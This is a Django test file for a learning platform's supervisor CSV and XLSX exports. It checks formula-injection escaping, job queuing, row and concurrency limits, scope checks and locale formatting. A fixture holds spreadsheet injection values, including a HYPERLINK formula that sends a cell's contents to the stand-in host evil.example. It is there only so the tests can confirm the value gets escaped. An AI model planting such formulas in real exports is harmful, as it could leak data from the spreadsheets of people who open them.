"""The supervisor's exports: formula injection, the background job, its limits and scope."""

import csv
import io
import time

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.tests.factories import LearnerFactory
from courses import services as course_services
from courses.tests.factories import course_build
from jobs.models import Job
from tracking.exports import COLUMN_INDEX as COL

from .factories import export_download, supervisor_of, tree_build

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Voir")'


@pytest.fixture
def hostile(tree):
    """A learner whose name and rank are formulas, in a course whose title is one."""
    course = course_build(title="=1+2 Garde à vue", modules=1, lessons=1)
    learner = LearnerFactory(
        unit=tree.sevare, full_name=HYPERLINK, rank="@SUM(1+1)", matricule="MOP-666"
    )
    course_services.enrollment_create(learner=learner, course=course)
    return learner


def test_csv_cells_that_look_like_formulas_are_escaped(client, tree, hostile):
    client.force_login(supervisor_of(tree.mopti))
    rows = list(
        csv.reader(io.StringIO(export_download(client, "csv").decode("utf-8-sig")), delimiter=";")
    )
    row = next(r for r in rows[1:] if r[COL["matricule"]] == "MOP-666")
    assert row[COL["name"]] == "'" + HYPERLINK
    assert row[COL["rank"]] == "'@SUM(1+1)"
    assert row[COL["course"]] == "'=1+2 Garde à vue"
    assert row[COL["progress"]] == "0"  # a number stays as written
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_xlsx_cells_that_look_like_formulas_are_text(client, tree, hostile):
    client.force_login(supervisor_of(tree.mopti))
    sheet = load_workbook(io.BytesIO(export_download(client, "xlsx"))).active
    cells = next(r for r in sheet.iter_rows(min_row=2) if r[COL["matricule"]].value == "MOP-666")
    for cell in (cells[COL["name"]], cells[COL["rank"]], cells[COL["course"]]):
        assert cell.data_type == "s"  # text, not "f" (formula)
        assert cell.quotePrefix and cell.value.startswith("'")
    assert cells[COL["name"]].value == "'" + HYPERLINK
    progress = cells[COL["progress"]]
    assert progress.value == 0 and progress.data_type == "n"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_the_request_only_queues_a_job_and_get_is_refused(client, tree, hostile):
    client.force_login(supervisor_of(tree.mopti))
    url = reverse("tracking:export", args=["xlsx"])
    assert client.get(url).status_code == 405
    response = client.post(f"{url}?status=in_progress&unit={tree.sevare.pk}")
    job = Job.objects.get()
    assert response["Location"] == reverse("jobs:job", args=[job.pk])
    assert job.status == Job.Status.QUEUED and job.kind == "tracking.export"
    assert job.params["format"] == "xlsx"
    assert job.params["query"] == f"status=in_progress&unit={tree.sevare.pk}"


def test_a_unit_out_of_scope_is_404_and_queues_nothing(client, tree):
    client.force_login(supervisor_of(tree.mopti))
    url = reverse("tracking:export", args=["csv"])
    assert client.post(f"{url}?unit={tree.segou.pk}").status_code == 404
    assert not Job.objects.exists()


def test_a_third_export_waits_for_the_first_two(client, tree, settings):
    settings.KALAN_JOBS_MAX_ACTIVE_PER_USER = 2
    client.force_login(supervisor_of(tree.mopti))
    url = reverse("tracking:export", args=["csv"])
    client.post(url)
    client.post(url)
    response = client.post(f"{url}?sort=name", follow=True)
    assert response.redirect_chain[-1][0] == reverse("tracking:dashboard") + "?sort=name"
    assert "Vous avez déjà 2 exports ou imports en cours" in response.content.decode()
    assert Job.objects.count() == 2


def test_too_many_rows_fail_with_a_clear_message(client, tree, hostile, settings):
    settings.KALAN_EXPORT_MAX_ROWS = 0
    client.force_login(supervisor_of(tree.mopti))
    with pytest.raises(AssertionError, match="au-delà de la limite de 0"):
        export_download(client, "csv")
    assert Job.objects.get().status == Job.Status.FAILED


def test_a_supervisor_moved_elsewhere_no_longer_downloads_the_file(client, tree, hostile):
    supervisor = supervisor_of(tree.mopti)
    client.force_login(supervisor)
    export_download(client, "csv")
    job = Job.objects.get()
    supervisor.supervised_units.set([tree.segou])
    assert client.get(reverse("jobs:job_download", args=[job.pk])).status_code == 404
    assert client.get(reverse("jobs:job", args=[job.pk])).status_code == 404


@pytest.mark.django_db(transaction=True)
def test_a_real_worker_writes_the_export(client, celery_project_worker, wagtail_site):
    tree = tree_build()
    course = course_build(title="Garde à vue", modules=1, lessons=1)
    for n in range(3):
        course_services.enrollment_create(
            learner=LearnerFactory(unit=tree.sevare, matricule=f"MOP-{n}"), course=course
        )
    client.force_login(supervisor_of(tree.mopti))
    response = client.post(reverse("tracking:export", args=["csv"]))
    job = Job.objects.get()
    assert response["Location"] == reverse("jobs:job", args=[job.pk])
    deadline = time.monotonic() + 30
    while job.status != Job.Status.DONE:
        assert job.status != Job.Status.FAILED, job.message
        assert time.monotonic() < deadline, f"still {job.status} after 30 s"
        time.sleep(0.1)
        job.refresh_from_db()
    assert job.message == "3 lignes exportées."
    download = client.get(reverse("jobs:job_download", args=[job.pk]))
    text = b"".join(download.streaming_content).decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text), delimiter=";")
    assert sorted(r[COL["matricule"]] for r in rows)[:3] == [
        "MOP-0",
        "MOP-1",
        "MOP-2",
    ]


@pytest.fixture
def graded(tree):
    """A learner of Sévaré, overdue, whose two quiz grades average 81.5455 %."""
    from datetime import timedelta

    from django.utils import timezone

    from courses.models import Enrollment
    from quizzes.models import QuizGrade
    from quizzes.tests.factories import quiz_make

    course = course_build(title="Droits de la défense", modules=1, lessons=1)
    learner = LearnerFactory(unit=tree.sevare, matricule="MOP-081", full_name="Awa Touré")
    Enrollment.objects.create(
        learner=learner,
        course=course,
        progress_percent=50,
        due_date=timezone.localdate() - timedelta(days=3),
    )
    for index, percent in enumerate(("82.091", "81.000")):
        QuizGrade.objects.create(
            learner=learner,
            quiz=quiz_make(course, title=f"Quiz {index}"),
            course=course,
            percent=percent,
        )
    return learner


@pytest.mark.parametrize(
    ("language", "separator", "grade", "overdue"),
    [("fr", ";", "81,5", "oui"), ("en", ",", "81.5", "yes")],
)
def test_csv_numbers_are_rounded_and_written_for_the_language(
    client, tree, graded, language, separator, grade, overdue
):
    """French Excel reads « 81.5455 » as text and expects `;` between cells with the decimal
    comma; English Excel expects `,` and `.`."""
    client.force_login(supervisor_of(tree.mopti, language=language))
    text = export_download(client, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=separator))
    assert len(rows[0]) == len(COL)  # the separator splits the header into its columns
    row = next(r for r in rows[1:] if r[COL["matricule"]] == "MOP-081")
    assert row[COL["name"]] == "Awa Touré"
    assert row[COL["progress"]] == "50"
    assert row[COL["grade"]] == grade
    assert row[COL["overdue"]] == overdue


def test_xlsx_rounds_grades_writes_booleans_as_words_and_sizes_its_columns(client, tree, graded):
    from openpyxl.utils import get_column_letter

    from tracking.exports import headers

    client.force_login(supervisor_of(tree.mopti))
    sheet = load_workbook(io.BytesIO(export_download(client, "xlsx"))).active
    cells = next(r for r in sheet.iter_rows(min_row=2) if r[COL["matricule"]].value == "MOP-081")
    grade = cells[COL["grade"]]
    assert grade.value == 81.5 and grade.data_type == "n"
    assert cells[COL["overdue"]].value == "oui"
    titles = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    assert titles == [str(title) for title in headers()]
    for index, title in enumerate(titles, start=1):
        width = sheet.column_dimensions[get_column_letter(index)].width
        assert width >= len(title), (title, width)

    def width(name):
        return sheet.column_dimensions[get_column_letter(COL[name] + 1)].width

    assert width("unit") >= len(cells[COL["unit"]].value)  # the longest unit path fits
    assert width("grade") < 40  # a number's column stays narrow


def test_the_columns_read_every_field_of_the_rows_by_name():
    """One definition of the columns: each reads the selector's rows by name, and together
    they read every field the selector gives (a field added to one and not the other fails)."""
    from datetime import UTC, date, datetime

    from tracking import exports
    from tracking.selectors import EXPORT_FIELDS

    class Recording(dict):
        read: set

        def __getitem__(self, key):
            self.read.add(key)
            return super().__getitem__(key)

    moment = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
    row = Recording(
        matricule="MOP-1",
        name="Awa Touré",
        rank="Adjudant",
        unit_id=7,
        course="Garde à vue",
        status="in_progress",
        progress=40,
        average=81.5455,
        due_date=date(2026, 4, 1),
        overdue=False,
        enrolled_at=moment,
        started_at=moment,
        completed_at=None,
        last_activity_at=moment,
        serial=None,
        offline=2,
    )
    row.read = set()
    assert set(row) == {name for name, _lookup in EXPORT_FIELDS}
    out = io.StringIO()
    assert exports.csv_write([row], labels={7: "Région de Mopti"}, out=out) == 1
    assert row.read == set(row)
    header, values = csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff")), delimiter=";")
    assert header == exports.headers() and len(header) == len(exports.COLUMNS)
    col = exports.COLUMN_INDEX
    assert values[col["unit"]] == "Région de Mopti"
    assert values[col["status"]] == "En cours"
    assert values[col["grade"]] == "81,5"
    assert values[col["due_date"]] == "2026-04-01"
    assert values[col["overdue"]] == "non"
    assert values[col["completed_at"]] == "" and values[col["certificate"]] == ""
    assert values[col["enrolled_at"]] == "2026-03-02 09:30"  # Bamako is on UTC
    assert values[col["offline_attempts"]] == "2"


def test_the_export_counts_the_attempts_synchronised_offline(client, tree):
    """Issue 19: a column counts each learner's attempts of the course graded with answers
    accepted after the deadline (« synchronisée hors ligne »), 0 for the others."""
    from datetime import timedelta

    from quizzes import services as quiz_services
    from quizzes.models import Attempt
    from quizzes.tests.factories import question_make, quiz_make

    course = course_build(title="Formation hors ligne", modules=1, lessons=1, sequential=False)
    other_course = course_build(title="Autre formation", modules=1, lessons=1, sequential=False)
    synced, plain = (
        LearnerFactory(unit=tree.sevare, matricule="MOP-101"),
        LearnerFactory(unit=tree.sevare, matricule="MOP-102"),
    )
    quiz = quiz_make(course, questions=[question_make()], title="Quiz chronométré")
    other_quiz = quiz_make(other_course, questions=[question_make()], title="Autre quiz")
    for learner in (synced, plain):
        for c, q in ((course, quiz), (other_course, other_quiz)):
            course_services.enrollment_create(learner=learner, course=c)
            quiz_services.attempt_submit(
                attempt=quiz_services.attempt_start(learner=learner, quiz=q)
            )
    Attempt.objects.filter(learner=synced, quiz=quiz).update(offline_delay=timedelta(hours=1))
    client.force_login(supervisor_of(tree.mopti))
    rows = list(
        csv.reader(io.StringIO(export_download(client, "csv").decode("utf-8-sig")), delimiter=";")
    )
    assert rows[0][COL["offline_attempts"]] == "Tentatives synchronisées hors ligne"
    counts = {(r[COL["matricule"]], r[COL["course"]]): r[COL["offline_attempts"]] for r in rows[1:]}
    assert counts[("MOP-101", "Formation hors ligne")] == "1"
    assert counts[("MOP-101", "Autre formation")] == "0"
    assert counts[("MOP-102", "Formation hors ligne")] == "0"
